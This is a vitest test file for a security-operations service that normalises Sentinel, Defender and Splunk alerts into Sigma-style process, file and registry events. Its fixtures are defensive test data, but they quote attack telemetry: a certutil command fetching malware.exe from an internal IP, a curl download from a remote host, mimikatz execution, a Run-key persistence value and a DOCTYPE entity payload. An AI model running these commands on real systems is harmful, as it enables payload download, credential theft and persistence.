import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Alert } from '@soc/contracts';
import { defenderParser } from '../src/sources/defender/index.ts';
import { normalize } from '../src/sources/normalize.ts';
import { sentinelParser } from '../src/sources/sentinel/index.ts';
import { eventDataXml, sysmonDescriptionFields } from '@soc/sigma';
import { platformOfOs, platformOfPath, registryTargetObject } from '../src/sources/sigma-events.ts';
import { splunkParser } from '../src/sources/splunk/index.ts';
import type { FieldError, SourceParser } from '../src/sources/types.ts';

// Fixtures and where they come from: test/fixtures/alerts/{sentinel,defender,splunk}/README.md.
const ctx = { tenantId: 'contoso', senderName: 'test-sender', receivedAt: new Date('2026-11-23T10:00:00Z') };

function load(path: string): unknown {
  return JSON.parse(readFileSync(new URL(`../../../test/fixtures/alerts/${path}`, import.meta.url), 'utf8')) as unknown;
}

function accept(parser: SourceParser, body: unknown): Alert[] {
  const outcome = normalize(parser, body, ctx);
  if (!outcome.ok) throw new Error(`refused: ${JSON.stringify(outcome.errors)}`);
  return outcome.alerts;
}

function refuse(parser: SourceParser, body: unknown): FieldError[] {
  const outcome = normalize(parser, body, ctx);
  if (outcome.ok) throw new Error('accepted');
  return outcome.errors;
}

const windowsRows = load('sentinel/windows-event-rows.json') as Record<string, unknown>[];
const [securityEvent, sysmonXmlRow, sysmonDescriptionRow, windowsEventRow] = windowsRows as [
  Record<string, unknown>,
  Record<string, unknown>,
  Record<string, unknown>,
  Record<string, unknown>,
];

// The Sysmon process creation every Windows fixture renders (SigmaHQ regression event for rule 13e6fe51).
const CERTUTIL = {
  Image: 'C:\\Windows\\System32\\certutil.exe',
  CommandLine: 'certutil.exe  -urlcache -f http://10.0.1.14/malware.exe malware-ctl.exe',
  ParentImage: 'C:\\Windows\\System32\\cmd.exe',
};

describe('Sentinel: forwarded Windows event rows', () => {
  it('maps a SecurityEvent 4688 row to a Security process_creation event with Image and ParentImage', () => {
    const [alert] = accept(sentinelParser, securityEvent);
    expect(alert?.title).toBe('Security event 4688: A new process has been created');
    expect(alert?.severity).toBe('informational');
    expect(alert?.source.vendorAlertId).toBe('ar-win-dc.attackrange.local|Security|11507958');
    const [event, ...more] = alert?.sourceEvents ?? [];
    expect(more).toEqual([]);
    expect(event?.logsources).toEqual([
      { product: 'windows', category: 'process_creation', service: 'security' },
      { product: 'windows', service: 'security' },
    ]);
    expect(event?.fields).toMatchObject({
      ...CERTUTIL,
      NewProcessName: CERTUTIL.Image,
      ParentProcessName: CERTUTIL.ParentImage,
      SubjectUserName: 'Administrator',
      EventID: 4688,
      Channel: 'Security',
      Provider_Name: 'Microsoft-Windows-Security-Auditing',
      Computer: 'ar-win-dc.attackrange.local',
    });
    // Columns Log Analytics adds about the row are not the event's data.
    for (const column of ['TenantId', 'TimeGenerated', 'Type', 'Account', 'Activity', 'SourceSystem'])
      expect(event?.fields).not.toHaveProperty(column);
    expect(event?.pointer).toBe('');
    expect(alert?.entities.map((e) => `${e.type}:${e.value}`)).toEqual(
      expect.arrayContaining(['host:ar-win-dc.attackrange.local', 'user:attackrange\\administrator', `process:${CERTUTIL.Image}`]),
    );
  });

  it('reads a Sysmon Event row from its EventData XML, from its rendered description, and a WindowsEvent row from its JSON', () => {
    for (const row of [sysmonXmlRow, sysmonDescriptionRow, windowsEventRow]) {
      const [alert] = accept(sentinelParser, row);
      expect(alert?.title).toBe('Sysmon event 1: Process creation');
      const [event] = alert?.sourceEvents ?? [];
      expect(event?.logsources[0]).toEqual({ product: 'windows', category: 'process_creation', service: 'sysmon' });
      expect(event?.fields).toMatchObject({
        ...CERTUTIL,
        ParentCommandLine: '"C:\\Windows\\System32\\cmd.exe"',
        User: 'ATTACKRANGE\\Administrator',
        OriginalFileName: 'CertUtil.exe',
        EventID: 1,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Provider_Name: 'Microsoft-Windows-Sysmon',
      });
    }
  });

  it('recognises rows sent without Type by their columns, and WindowsEvent EventData given as JSON text', () => {
    const { Type: _t1, ...securityRow } = securityEvent;
    const { Type: _t2, ...sysmonRow } = sysmonXmlRow;
    const { Type: _t3, EventData, ...windowsRow } = windowsEventRow;
    const rows = [securityRow, sysmonRow, { ...windowsRow, EventData: JSON.stringify(EventData) }];
    expect(accept(sentinelParser, rows).map((a) => [a.labels.find((l) => l.startsWith('table:')), a.sourceEvents?.[0]?.fields['Image']])).toEqual([
      ['table:SecurityEvent', CERTUTIL.Image],
      ['table:Event', CERTUTIL.Image],
      ['table:WindowsEvent', CERTUTIL.Image],
    ]);
  });

  it("takes the sender's severity when the forwarding query adds one, and refuses one Sentinel does not know", () => {
    expect(accept(sentinelParser, { ...securityEvent, AlertSeverity: 'High' })[0]?.severity).toBe('high');
    expect(refuse(sentinelParser, { ...securityEvent, AlertSeverity: 'Severe' })[0]).toMatchObject({ path: 'AlertSeverity' });
  });

  it('refuses EventData that is not well-formed XML or declares a DOCTYPE, saying where', () => {
    const broken = refuse(sentinelParser, { ...sysmonXmlRow, EventData: '<DataItem><EventData><Data Name="Image">x</EventData>' });
    expect(broken[0]).toMatchObject({ path: 'EventData' });
    expect(broken[0]?.message).toMatch(/not well-formed XML/u);
    const doctype = '<!DOCTYPE d [<!ENTITY e "boom">]><EventData><Data Name="Image">&e;</Data></EventData>';
    expect(refuse(sentinelParser, { ...sysmonXmlRow, EventData: doctype })[0]?.message).toMatch(/DOCTYPE/u);
    expect(eventDataXml('<EventData><Data Name="CommandLine">a &amp; b</Data><Data Name="Empty" /><Data>unnamed</Data></EventData>')).toEqual({
      ok: true,
      data: { CommandLine: 'a & b', Empty: '' },
    });
  });

  it('reads each Name: value line of a Sysmon description, keeping colons inside values', () => {
    expect(sysmonDescriptionFields('Process Create:\r\nImage: C:\\x.exe\r\nCommandLine: cmd /c "echo a: b"\r\n')).toEqual({
      Image: 'C:\\x.exe',
      CommandLine: 'cmd /c "echo a: b"',
    });
  });

  it('gives the same id to the same row re-sent with its columns in another order', () => {
    const reordered = Object.fromEntries(Object.entries(sysmonDescriptionRow).reverse());
    expect(accept(sentinelParser, reordered)[0]?.source.vendorAlertId).toBe(
      accept(sentinelParser, sysmonDescriptionRow)[0]?.source.vendorAlertId,
    );
  });

  it('still refuses rows of other tables', () => {
    expect(refuse(sentinelParser, { Type: 'Syslog', EventID: 1, Computer: 'x' })[0]).toMatchObject({ path: 'Type' });
  });
});

describe('Sentinel: SecurityAlert rows', () => {
  const graph = Object.values(load('sentinel/entities.json') as Record<string, unknown>);
  const row = (productName: string): Record<string, unknown> => ({
    SystemAlertId: '11111111-2222-3333-4444-555555555555',
    AlertName: 'Mimikatz credential theft tool',
    AlertSeverity: 'High',
    ProductName: productName,
    Entities: JSON.stringify(graph),
  });

  it("makes process_creation events of an EDR's process entities that have an image and a command line", () => {
    const [alert] = accept(sentinelParser, row('Microsoft Defender Advanced Threat Protection'));
    expect(alert?.sourceEvents).toEqual([
      {
        logsources: [{ product: 'windows', category: 'process_creation' }],
        evidence: true,
        fields: {
          Image: 'c:\\windows\\servic~2\\networ~1\\appdata\\local\\temp\\mimikatz.exe',
          CommandLine: '.\\mimikatz.exe',
          ParentImage: 'c:\\windows\\system32\\cmd.exe',
          User: 'WORKGROUP\\MSTICAlertsWin1$',
          ProcessId: '1720',
          ParentProcessId: '5464',
        },
        pointer: '/Entities',
      },
    ]);
  });

  it("makes none of a scheduled rule's or another product's entities, nor of rows without entities", () => {
    expect(accept(sentinelParser, row('Azure Security Center'))[0]?.sourceEvents).toEqual([]);
    const rows = readFileSync(new URL('../../../test/fixtures/alerts/sentinel/rows.jsonl', import.meta.url), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as unknown);
    const alerts = accept(sentinelParser, rows);
    expect(alerts).toHaveLength(95);
    expect(alerts.filter((a) => (a.sourceEvents ?? []).length > 0)).toEqual([]);
  });
});

describe('Defender: evidence as Sigma events', () => {
  it('maps the documented Graph alert: process_creation, file_event and registry_event on the Windows device', () => {
    const [alert] = accept(defenderParser, load('defender/graph_alert_v2_get_example.json'));
    expect(alert?.sourceEvents).toEqual([
      {
        logsources: [{ product: 'windows', category: 'file_event' }],
        evidence: true,
        fields: { TargetFilename: 'C:\\Program Files\\temp\\MsSense.exe' },
        pointer: '/evidence/1',
      },
      {
        logsources: [{ product: 'windows', category: 'process_creation' }],
        evidence: true,
        fields: {
          Image: 'C:\\Program Files\\temp\\MsSense.exe',
          CommandLine: '"MsSense.exe"',
          ParentImage: 'C:\\Windows\\System32\\services.exe',
          User: 'NT AUTHORITY\\SYSTEM',
          ProcessId: '4780',
          ParentProcessId: '668',
        },
        pointer: '/evidence/2',
      },
      {
        logsources: [{ product: 'windows', category: 'registry_event' }],
        evidence: true,
        fields: { TargetObject: 'HKLM\\SYSTEM\\CONTROLSET001\\CONTROL\\WMI\\AUTOLOGGER\\SENSEAUDITLOGGER' },
        pointer: '/evidence/3',
      },
    ]);
  });

  it('maps a registry value as registry_set with its data, and files a Linux device process under linux', () => {
    const alert = load('defender/graph_alert_v2_certutil_constructed.json') as Record<string, unknown>;
    const [mapped] = accept(defenderParser, alert);
    expect(mapped?.sourceEvents?.find((e) => e.logsources[0]?.category === 'registry_set')).toEqual({
      logsources: [
        { product: 'windows', category: 'registry_set' },
        { product: 'windows', category: 'registry_event' },
      ],
      fields: {
        TargetObject: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\malware-ctl',
        Details: 'C:\\Users\\Administrator\\Downloads\\malware-ctl.exe',
        EventType: 'SetValue',
      },
      evidence: true,
      pointer: '/evidence/3',
    });
    const linux = {
      '@odata.type': '#microsoft.graph.security.alert',
      id: 'linux-1',
      severity: 'medium',
      title: 'Suspicious download',
      evidence: [
        { '@odata.type': '#microsoft.graph.security.deviceEvidence', osPlatform: 'Linux', deviceDnsName: 'web01' },
        {
          '@odata.type': '#microsoft.graph.security.processEvidence',
          processCommandLine: 'curl -o /tmp/x http://198.51.100.7/x',
          imageFile: { fileName: 'curl', filePath: '/usr/bin' },
        },
      ],
    };
    expect(accept(defenderParser, linux)[0]?.sourceEvents).toEqual([
      {
        logsources: [{ product: 'linux', category: 'process_creation' }],
        evidence: true,
        fields: { Image: '/usr/bin/curl', CommandLine: 'curl -o /tmp/x http://198.51.100.7/x' },
        pointer: '/evidence/1',
      },
    ]);
  });

  it('omits a process whose platform neither the device nor the path tells', () => {
    const unknown = {
      '@odata.type': '#microsoft.graph.security.alert',
      id: 'unknown-1',
      severity: 'low',
      title: 'x',
      evidence: [{ '@odata.type': '#microsoft.graph.security.processEvidence', processCommandLine: 'x.exe -a', imageFile: { fileName: 'x.exe' } }],
    };
    expect(accept(defenderParser, unknown)[0]?.sourceEvents).toEqual([]);
  });

  it('maps Defender for Endpoint API evidence and streaming AlertEvidence rows', () => {
    const [mde] = accept(defenderParser, load('defender/mde_api_alert_example.json'));
    expect(mde?.sourceEvents).toEqual([
      {
        logsources: [{ product: 'windows', category: 'process_creation' }],
        evidence: true,
        fields: {
          Image: 'C:\\Windows\\SysWOW64\\rundll32.exe',
          CommandLine: 'rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe',
          ParentImage: 'C:\\Windows\\System32\\rundll32.exe',
          ProcessId: '3276',
          ParentProcessId: '8420',
        },
        pointer: '/evidence/1',
      },
      { logsources: [{ product: 'windows', category: 'file_event' }], evidence: true, fields: { TargetFilename: 'c:\\temp\\suspicious.dll' }, pointer: '/evidence/2' },
    ]);
    const [streamed] = accept(defenderParser, load('defender/streaming_eventhubs_alertinfo_alertevidence.json'));
    expect(streamed?.sourceEvents?.map((e) => [e.logsources[0]?.category, e.fields['Image'] ?? e.fields['TargetFilename'], e.pointer])).toEqual([
      ['process_creation', 'C:\\Windows\\SysWOW64\\rundll32.exe', '/records/3/properties'],
      ['file_event', 'c:\\temp\\suspicious.dll', '/records/4/properties'],
    ]);
    // An EDR's evidence lists what the product chose to show; triage does not read its silence as "nothing found".
    expect(streamed?.sourceEvents?.every((e) => e.evidence === true)).toBe(true);
  });

  it('gives an incident without expanded alerts no events', () => {
    expect(accept(defenderParser, load('defender/graph_incident_get_example.json'))[0]?.sourceEvents).toEqual([]);
  });
});

describe('Splunk: CIM Endpoint.Processes fields', () => {
  const notable = load('splunk/es-notable-cim-process-constructed.json') as Record<string, unknown>;

  it('maps a notable with process fields to a process_creation event on the platform its os names', () => {
    const [alert] = accept(splunkParser, notable);
    expect(alert?.sourceEvents).toEqual([
      {
        logsources: [{ product: 'windows', category: 'process_creation' }],
        evidence: true,
        fields: {
          ...CERTUTIL,
          ParentCommandLine: '"C:\\Windows\\System32\\cmd.exe"',
          User: 'ATTACKRANGE\\Administrator',
          ProcessId: '6432',
          ParentProcessId: '6304',
          CurrentDirectory: 'C:\\Users\\Administrator\\Downloads\\',
          IntegrityLevel: 'high',
        },
        pointer: '',
      },
    ]);
  });

  it('makes an image of process_name only when os names the platform; without process fields there is no event', () => {
    const { process_path: _path, parent_process_path: _parent, ...nameOnly } = notable;
    expect(accept(splunkParser, { ...nameOnly, os: 'Linux' })[0]?.sourceEvents?.[0]?.fields['Image']).toBe('/certutil.exe');
    expect(accept(splunkParser, { ...nameOnly, os: undefined })[0]?.sourceEvents).toEqual([]);
    expect(accept(splunkParser, load('splunk/es-notable-event.json'))[0]?.sourceEvents).toEqual([]);
  });
});

describe('platform and registry naming', () => {
  it('tells the platform from OS names and path shapes, and says nothing for a bare name', () => {
    expect(['Windows10', 'WindowsServer2019', 'Microsoft Windows Server 2022', 'Linux', 'Ubuntu', 'macOS'].map(platformOfOs)).toEqual([
      'windows',
      'windows',
      'windows',
      'linux',
      'linux',
      'macos',
    ]);
    expect(platformOfOs('Unknown')).toBeUndefined();
    expect(['C:\\x.exe', '\\\\srv\\share\\x.exe', '/usr/bin/curl', '/Applications/X.app/Contents/MacOS/X', 'x.exe'].map(platformOfPath)).toEqual([
      'windows',
      'windows',
      'linux',
      'macos',
      undefined,
    ]);
  });

  it('abbreviates the hive as Sysmon renders TargetObject, given apart or in front of the key', () => {
    expect(registryTargetObject('HKEY_LOCAL_MACHINE', 'SOFTWARE\\X', 'v')).toBe('HKLM\\SOFTWARE\\X\\v');
    expect(registryTargetObject(undefined, 'HKEY_USERS\\S-1-5-21\\Software')).toBe('HKU\\S-1-5-21\\Software');
    expect(registryTargetObject('HKEY_LOCAL_MACHINE', 'HKEY_LOCAL_MACHINE\\SYSTEM')).toBe('HKLM\\SYSTEM');
  });
});
